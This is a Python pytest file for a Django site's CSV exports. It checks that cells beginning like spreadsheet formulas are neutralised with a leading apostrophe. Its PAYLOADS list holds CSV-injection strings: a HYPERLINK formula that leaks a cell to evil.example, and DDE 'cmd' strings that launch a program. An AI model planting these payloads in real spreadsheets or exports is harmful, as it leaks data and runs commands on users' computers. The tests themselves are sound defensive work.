"""Every CSV the site writes neutralises cells that a spreadsheet would run as a formula."""

import csv
import io
from datetime import date

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse

from kcsite.csvsafe import safe_cell
from kcsite.search.models import SearchTermStat
from methodbank.library.models import Reference
from network.membership.models import MembershipApplication
from tests.events.factories import make_event, register
from tests.membership import factories as membership_factories
from tests.support import factories as support_factories

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_prefixes_formula_starts(payload):
    assert safe_cell(payload) == "'" + payload


def test_safe_cell_keeps_ordinary_values():
    assert safe_cell("Anna Andersson") == "Anna Andersson"
    assert safe_cell("a=b") == "a=b"
    assert safe_cell(-3) == -3 and safe_cell(None) is None and safe_cell(2.5) == 2.5


def _cells(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    return [cell for row in rows for cell in row]


def _assert_neutral(cells, payload):
    assert "'" + payload in cells, cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells


@pytest.fixture
def superuser_client(client):
    user = get_user_model().objects.create_superuser("csv", "csv@example.org", "a-long-password")
    client.force_login(user)
    return client


@pytest.mark.django_db
@pytest.mark.usefixtures("app_pages")
def test_registrations_export(superuser_client):
    event = make_event(capacity=3)
    register(event, 1, name=PAYLOADS[0], organisation=PAYLOADS[1])
    url = reverse("wagtailsnippets_events_registration:list")
    cells = _cells(superuser_client.get(url, {"event": event.pk, "export": "csv"}))
    _assert_neutral(cells, PAYLOADS[0])
    assert "'" + PAYLOADS[1] in cells


@pytest.mark.django_db
@pytest.mark.usefixtures("app_pages")
def test_applications_and_members_export(superuser_client):
    membership_factories.pending_application(name=PAYLOADS[3], organisation=PAYLOADS[2])
    url = reverse("wagtailsnippets_membership_membershipapplication:list")
    cells = _cells(superuser_client.get(url, {"export": "csv"}))
    _assert_neutral(cells, PAYLOADS[3])
    assert MembershipApplication.objects.filter(name=PAYLOADS[3]).exists()
    membership_factories.member(name=PAYLOADS[0], organisation="Skolan")
    url = reverse("wagtailsnippets_membership_member:list")
    cells = _cells(superuser_client.get(url, {"export": "csv"}))
    _assert_neutral(cells, PAYLOADS[0])


@pytest.mark.django_db
@pytest.mark.usefixtures("app_pages")
def test_support_requests_export(client):
    support_factories.support_request(organisation=PAYLOADS[0], name=PAYLOADS[1])
    client.force_login(support_factories.staff_member("csvteam"))
    cells = _cells(client.get(reverse("support_requests:index"), {"export": "csv"}))
    _assert_neutral(cells, PAYLOADS[0])


@pytest.mark.django_db
@pytest.mark.usefixtures("app_pages")
def test_support_statistics_csv_uses_the_safe_writer(client):
    support_factories.support_request()
    client.force_login(support_factories.staff_member("csvstats"))
    response = client.get(reverse("support_statistics"), {"export": "service"})
    cells = _cells(response)
    assert cells and not any(cell.startswith(("=", "+", "@")) for cell in cells)


@pytest.mark.django_db
@pytest.mark.usefixtures("app_pages")
def test_references_export_and_search_terms_report(superuser_client):
    Reference.objects.create(title=PAYLOADS[3], year=2020, ref_type="report")
    cells = _cells(superuser_client.get("/admin/snippets/library/reference/?export=csv"))
    _assert_neutral(cells, PAYLOADS[3])
    SearchTermStat.objects.create(query=PAYLOADS[0], date=date.today(), hits=3, zero_results=3)
    cells = _cells(superuser_client.get("/admin/reports/sokord/", {"export": "csv"}))
    _assert_neutral(cells, PAYLOADS[0])
